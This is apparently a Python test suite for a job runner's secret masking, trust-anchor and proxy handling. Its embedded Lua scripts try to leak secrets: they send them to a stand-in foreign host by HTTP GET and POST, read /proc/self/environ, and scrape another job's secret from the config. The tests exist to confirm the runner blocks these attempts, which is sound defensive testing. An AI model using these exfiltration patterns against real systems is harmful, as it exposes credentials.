"""A job's `environment` is complete before anything of the run looks at it: secrets, trust anchors, proxies."""

import json
import unittest

from certificates import Authority
from jobs import JobCase
from service import RawService, Service, reply

SECRET, REFRESH, OUTER = "jobenv-secret-998877", "jobenv-refresh-112233", "outer-secret-of-the-process"

CONNECTOR = """\
connectors:
  c:
    token_service: https://kaizala.example.org/v1
    application_id: abcdefgh1
    application_secret: { env: SEC }
    refresh_token: { env: REF }
"""


class Secrets(JobCase):
    def setUp(self):
        super().setUp()
        self.foreign = Service()
        self.addCleanup(self.foreign.stop)

    def secret_job(self, script, **keys):
        return self.job(script, connectors=CONNECTOR, connector="c", environment={"SEC": SECRET, "REF": REFRESH}, **keys)

    def assert_hidden(self, *texts):
        for text in texts:
            for secret in (SECRET, REFRESH, OUTER):
                self.assertNotIn(secret, text)

    def test_nothing_that_is_written_shows_them(self):
        self.secret_job("""
          print("P", os.getenv "SEC")
          require "jeton.log".info("L " .. os.getenv "REF")
          os.execute "echo E $SEC >&2"
          error("X " .. os.getenv "SEC")
        """, on_failure={"command": ["tee", "mail"]})
        done = self.run_job(status=1)
        with open(self.path("mail"), encoding="utf-8") as file:
            mail = file.read()
        row = self.row()
        for mark in ("P\t********", "L ********", "E ********", "X ********"):
            self.assertIn(mark, self.output())
        self.assertIn("L ********", done.stderr)
        self.assertTrue(json.loads(mail)["message"].endswith("X ********"), mail)
        said = done.stderr.replace(f"E {SECRET}\n", "")  # what programs print goes on as it is
        self.assert_hidden(said, mail, row["message"], self.output(), self.ok("history").stdout,
                           self.ok("history", "--json").stdout, self.ok("logs", "job").stdout)

    def test_they_go_to_no_other_host(self):
        self.secret_job(f"""
          local http = require "jeton.http"
          for _, name in ipairs {{ "SEC", "REF" }} do
            print(http.get("{self.foreign.url}/?x=" .. os.getenv(name)))
            print(http.post("{self.foreign.url}/", {{ body = os.getenv(name) }}))
          end
        """)
        done = self.run_job()
        self.assertEqual(done.stdout.count("auth: "), 4, done.stdout)
        self.assertEqual(self.foreign.received, [])

    def test_the_end_of_a_line_is_no_part_of_them(self):
        """As of `|` in YAML, or of `echo secret | base64` in a Secret of Kubernetes; a byte order mark neither."""
        script = f"""
          for _, name in ipairs {{ "SEC", "REF" }} do
            local value = os.getenv(name):gsub("^\\u{{feff}}", ""):gsub("%s+$", "")
            require "jeton.log".info("L " .. value)
            print(require "jeton.http".get("{self.foreign.url}/?x=" .. value))
          end
        """
        self.job(script, connectors=CONNECTOR, environment={"SEC": SECRET + "\n", "REF": "\ufeff" + REFRESH})
        inside = self.run_job()
        self.job(script, connectors=CONNECTOR)
        outside = self.run_job(env={"SEC": "\ufeff" + SECRET, "REF": REFRESH + "\r\n"})
        for done in (inside, outside):
            self.assertEqual(done.stderr.count("L ********"), 2, done.stderr)
            self.assertEqual(done.stdout.count("auth: "), 2, done.stdout)
            self.assert_hidden(done.stderr)
        self.assertEqual(self.foreign.received, [])

    def test_a_dry_run_hides_them_too(self):
        self.secret_job("require 'jeton.log'.info(os.getenv 'REF')")
        done = self.run_job("--dry-run")
        self.assertIn("********", done.stderr)
        self.assert_hidden(done.stderr)

    def test_a_value_from_outside_stays_a_secret(self):
        """The job's value hides it from os.getenv, but not from the script."""
        self.secret_job("""
          local file = io.open("/proc/self/environ", "rb")
          print((file:read "a":match "SEC=(outer[^%z]*)"))
        """)
        self.assertEqual(self.run_job(env={"SEC": OUTER}).stdout, OUTER + "\n")
        self.assertEqual(self.output(), "********\n")

    def test_the_value_of_another_job_is_a_secret_too(self):
        self.secret_job("print 'other'")
        with open(self.path("jeton.yaml"), "a", encoding="utf-8") as file:
            file.write("  two:\n    script: two.lua\n    connector: c\n    environment: { SEC: value-of-job-two }\n")
        self.write("job.lua", "print((io.open 'jeton.yaml':read 'a':match 'SEC: (value%S+)'))")
        self.run_job()
        self.assertEqual(self.output(), "********\n")


class Network(JobCase):
    def test_trust_anchors(self):
        authority = Authority(self.folder)
        service = RawService(lambda socket, head: socket.sendall(reply(b"{}")), authority.server("service"))
        self.addCleanup(service.stop)
        script = f"print(require('jeton.http').get('{service.url}/').status)"
        self.job(script, environment={"SSL_CERT_FILE": authority.file})
        self.assertEqual(self.run_job().stdout, "200\n")
        self.job(script, environment={"SSL_CERT_FILE": "/dev/null"})
        self.run_job(env={"SSL_CERT_FILE": authority.file}, status=1)

    def test_proxies(self):
        proxy = Service(lambda request: (502, {}, {}))
        self.addCleanup(proxy.stop)
        self.job("print(require('jeton.http').get('https://kaizala.example.org/', { timeout = 5 }))",
                 environment={"https_proxy": proxy.url})
        self.run_job()
        self.assertEqual([request["path"] for request in proxy.received], ["kaizala.example.org:443"])


if __name__ == "__main__":
    unittest.main()
